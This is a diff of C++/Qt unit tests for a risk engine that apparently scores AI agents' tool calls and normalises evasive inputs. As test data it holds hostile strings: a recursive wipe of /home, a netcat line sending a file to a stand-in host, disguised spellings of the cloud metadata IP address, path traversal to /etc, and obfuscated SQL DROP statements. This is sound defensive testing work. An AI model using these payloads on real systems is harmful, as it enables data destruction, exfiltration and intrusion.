@@ -5,6 +5,7 @@
 #include "server/Addresses.h"
 #include "server/HiddenTextScanner.h"
 #include "server/MailDeletion.h"
+#include "server/PayloadForms.h"
 #include "server/PersonalData.h"
 #include "server/RiskEngine.h"
 
@@ -269,6 +270,16 @@ private Q_SLOTS:
             << submission(QStringLiteral("shell.exec"), obj("{'command': 'rm -rf build/ dist/'}"))
             << "shell.destructive"
             << "removes generated folders recursively: rm -rf" << 15;
+        QTest::newRow("wipe spelled with separate options")
+            << submission(QStringLiteral("shell.exec"), obj("{'command': 'rm -f -r /home; true'}"))
+            << "shell.wipe"
+            << "wipes a whole file system, home or bucket: rm -fr /home" << 35;
+        QTest::newRow("count of a list sent as one string")
+            << submission(QStringLiteral("email.delete"),
+                          obj("{'mailbox': 'carol', 'message_ids': 'a, b; c d e f g h i j k l m n "
+                              "o p q r s t u'}"))
+            << "delete.many-mails"
+            << "deletes 21 e-mails from carol" << 25;
         QTest::newRow("production named with an underscore")
             << submission(QStringLiteral("sql.exec"),
                           obj("{'database': 'analytics_prod', 'statement': 'SELECT 1'}"))
@@ -421,6 +432,79 @@ private Q_SLOTS:
                      "root@jump.evil.io 'ls' ; nc 198.51.100.2 9000 < f")),
                  QStringList({QStringLiteral("up.example.io"), QStringLiteral("10.0.0.5"),
                               QStringLiteral("jump.evil.io"), QStringLiteral("198.51.100.2")}));
+    }
+
+    // Numeric IPv4 spellings as inet_aton and HTTP clients read them; URLs with that host.
+    void numericHostsAreAddresses()
+    {
+        for (const char *host :
+             {"2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376",
+              "169.254.43518", "169.16689662", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe"})
+            QCOMPARE(Addresses::numericIpv4(QString::fromLatin1(host)),
+                     QStringLiteral("169.254.169.254"));
+        for (const char *host : {"example.com", "1.2.3.4.5", "256.1.1.1", "08.1.1.1", "1.2.3.256",
+                                 "4294967296", "0xg", "::1", ""})
+            QVERIFY2(Addresses::numericIpv4(QString::fromLatin1(host)).isEmpty(), host);
+        QCOMPARE(Addresses::urlHost(QStringLiteral("http://2852039166/latest/meta-data/")),
+                 QStringLiteral("169.254.169.254"));
+        QVERIFY(Addresses::isInternalHost(QStringLiteral("0x7f000001"), {}));
+        QCOMPARE(Addresses::canonicalUrl(QStringLiteral("HTTP://u:p@0251.0376.0251.0376:80/x?y")),
+                 QStringLiteral("http://169.254.169.254:80/x?y"));
+        QCOMPARE(Addresses::canonicalUrl(QStringLiteral("http://METADATA.Google.Internal./v1/")),
+                 QStringLiteral("http://metadata.google.internal/v1/"));
+        QCOMPARE(Addresses::canonicalUrl(QStringLiteral("http://[::ffff:a9fe:a9fe]:8080/")),
+                 QStringLiteral("http://169.254.169.254:8080/"));
+        QCOMPARE(Addresses::canonicalUrl(QStringLiteral("http://[::1]:8080/")),
+                 QStringLiteral("http://[::1]:8080/"));
+    }
+
+    // The normalised forms the rules see besides the value as sent (docs/risk-rules.md).
+    void payloadForms()
+    {
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("/tmp/../etc/cron.d/x")),
+                 QStringLiteral("/etc/cron.d/x"));
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("//etc/./passwd/")),
+                 QStringLiteral("/etc/passwd"));
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("/../../etc")), QStringLiteral("/etc"));
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("a/../../b/")), QStringLiteral("../b"));
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("/.")), QStringLiteral("/"));
+        QCOMPARE(PayloadForms::lexicalPath(QStringLiteral("./")), QStringLiteral("."));
+        QCOMPARE(PayloadForms::withoutSqlSpelling(QStringLiteral("DR''OP/**/TABLE 'a' || 'b'")),
+                 QStringLiteral("DROP TABLE 'ab'"));
+        QCOMPARE(PayloadForms::withoutSqlSpelling(QStringLiteral("/*!50000DROP*/ TABLE t -- x\n")),
+                 QStringLiteral("DROP TABLE t  \n"));
+        // On a command line "--force" is an option, not a comment.
+        QCOMPARE(PayloadForms::withoutSqlSpelling(QStringLiteral("git push --force"), false),
+                 QStringLiteral("git push --force"));
+        QCOMPARE(PayloadForms::commandForms(QStringLiteral("\"rm\" -f / -r")),
+                 QStringList({QStringLiteral("rm -f / -r"), QStringLiteral("rm -fr /")}));
+        QCOMPARE(PayloadForms::commandForms(QStringLiteral("rm -rf /")), QStringList());
+        QCOMPARE(PayloadForms::commandForms(QStringLiteral("ls -la")), QStringList());
+        QCOMPARE(PayloadForms::of(u"paths", QStringLiteral("/a/../etc/x, /b")),
+                 QStringList({QStringLiteral("/a/../etc/x"), QStringLiteral("/etc/x"),
+                              QStringLiteral("/b")}));
+        QCOMPARE(PayloadForms::of(u"url", QStringLiteral("http://2852039166/")),
+                 QStringList{QStringLiteral("http://169.254.169.254/")});
+        QCOMPARE(PayloadForms::of(u"title", QStringLiteral("/tmp/../etc")), QStringList());
+    }
+
+    void listsAreCountedHoweverWritten()
+    {
+        const auto count = [](const char *json) {
+            return PayloadForms::itemCount(
+                QJsonDocument::fromJson(QByteArray(QByteArray("[") + json + "]").replace('\'', '"'))
+                    .array()
+                    .at(0));
+        };
+        QCOMPARE(count("['a', 'b', 'c']"), 3);
+        QCOMPARE(count("'a,b;c d\\ne ,, '"), 5);
+        QCOMPARE(count("{'a': true, 'b': null, 'c': ['x', 'y']}"), 4);
+        QCOMPARE(count("[['a', 'b'], [['c']], 7]"), 4);
+        QCOMPARE(count("''"), 0);
+        QCOMPARE(count("null"), 0);
+        QCOMPARE(PayloadForms::items(
+                     QJsonDocument::fromJson("[{\"k\": true, \"l\": \"x y\"}]").array().at(0)),
+                 QStringList({QStringLiteral("k"), QStringLiteral("x"), QStringLiteral("y")}));
     }
 
     void mailDeletionInCommands_data()
